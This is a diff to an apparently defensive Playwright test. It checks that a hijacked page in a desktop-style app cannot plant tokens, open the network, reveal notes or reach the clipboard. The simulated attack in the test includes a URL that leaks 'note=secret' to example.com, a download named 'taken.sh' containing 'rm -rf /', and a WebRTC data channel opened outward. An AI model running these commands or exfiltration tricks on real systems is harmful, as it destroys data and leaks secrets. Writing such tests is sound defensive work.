@@ -5,7 +5,7 @@ import { setTimeout as wait } from 'node:timers/promises';
 import type { Page } from 'playwright/test';
 import { expect, test } from './app-test.ts';
 import { dropOn } from './drag.ts';
-import { readLibrary, upToDate, vault } from './window.ts';
+import { readLibrary, searchBox, upToDate, vault } from './window.ts';
 
 // Refusals are reported in the page’s console.
 test.use({ expectQuietConsole: false });
@@ -43,7 +43,7 @@ async function startHost(): Promise<{ url: string; contacts: () => number; close
 
 const notAgreed = { ok: false, error: { code: 'consent-missing' } };
 
-test('a page that was taken over gains no folder, no source code, no host and no token, and cannot wear its user down with questions', async ({
+test('a page that was taken over gains no folder, no source code, no host, no file and no token, and cannot wear its user down with questions', async ({
   app,
   page,
 }) => {
@@ -74,12 +74,31 @@ test('a page that was taken over gains no folder, no source code, no host and no
   }
   expect(await ask(page, 'models.configure', { hubUrl: host.url })).toMatchObject(notAgreed);
   expect(await ask(page, 'models.use', { key: 'starter', agreed: true })).toMatchObject({ ok: true });
-  expect(await ask(page, 'token.save', { baseUrl: host.url, token: 'planted', keep: 'session' })).toMatchObject(
-    notAgreed,
-  );
+  // Not even while the user types and holds keys down, which the page has led them to do.
+  const wanted = [
+    ['token.save', { baseUrl: host.url, token: 'planted-token', keep: 'session' }],
+    ['network.switch', { isOff: false }],
+    ['hosts.allow', { address: host.url }],
+  ] as const;
+  const ofPress = [
+    ['note.open', { noteId: 1, offset: null }],
+    ['note.reveal', { noteId: 1 }],
+    ['clipboard.write', { text: 'taken' }],
+  ] as const;
+  await searchBox(page).focus();
+  for (const key of ['n', 'Space', 'Enter']) {
+    await page.keyboard.down(key);
+    for (const [request, input] of key === 'Enter' ? wanted : [...wanted, ...ofPress]) {
+      expect(await ask(page, request, input), `${key}: ${request}`).toMatchObject(notAgreed);
+    }
+    await page.keyboard.up(key);
+  }
   expect(await ask(page, 'token.status', { baseUrl: host.url })).toMatchObject({ output: { source: 'none' } });
   await page.evaluate((to) => {
     window.open('https://example.com/?note=secret');
+    const link = Object.assign(document.createElement('a'), { download: 'taken.sh' });
+    link.href = URL.createObjectURL(new Blob(['rm -rf /']));
+    link.click();
     const connection = new RTCPeerConnection({ iceServers: [{ urls: to.replace('http://', 'stun:') }] });
     connection.createDataChannel('out');
     void connection.createOffer().then((offer) => connection.setLocalDescription(offer));
